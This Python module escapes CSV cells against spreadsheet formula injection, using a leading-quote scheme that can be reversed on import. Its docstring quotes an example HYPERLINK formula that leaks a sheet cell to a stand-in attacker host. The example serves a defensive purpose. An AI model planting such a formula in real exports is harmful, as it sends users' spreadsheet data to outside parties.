"""Keeping spreadsheet formulas out of exported text (CSV injection, CWE-1236).

Excel, LibreOffice and Google Sheets run a CSV cell that starts with = + - @ (and, in some
versions, a tab or a carriage return) as a formula: a title such as
`=HYPERLINK("http://evil.example/?leak="&A2,"Click me")` would leak the sheet when an admin
opens the export. OWASP's advice is a leading single quote, which the spreadsheet shows as text.

The quote must come off again on import, and a real title that already starts with a quote
(`'=x`) must survive too, so the escape is a bijection on strings: a quote is added whenever the
text, *after its leading quotes*, starts with a trigger; unescape removes exactly one quote in
the same case. Text that never starts with a trigger is written as it is.
"""

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# The first characters worth a closer look: a trigger, or a quote that may hide one.
_SUSPECT_FIRST = frozenset("=+-@\t\r'")


def escape(text: str) -> str:
    """`text` safe to put in a CSV cell; unescape(escape(text)) == text for every string."""
    if text[:1] in _SUSPECT_FIRST and text.lstrip("'").startswith(TRIGGERS):
        return "'" + text
    return text


def unescape(text: str) -> str:
    """The text escape() was given: one leading quote off when a trigger follows the quotes."""
    if text[:1] == "'" and text.lstrip("'").startswith(TRIGGERS):
        return text[1:]
    return text



def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would read this text as a formula if it were typed in."""
    return text.startswith(TRIGGERS)
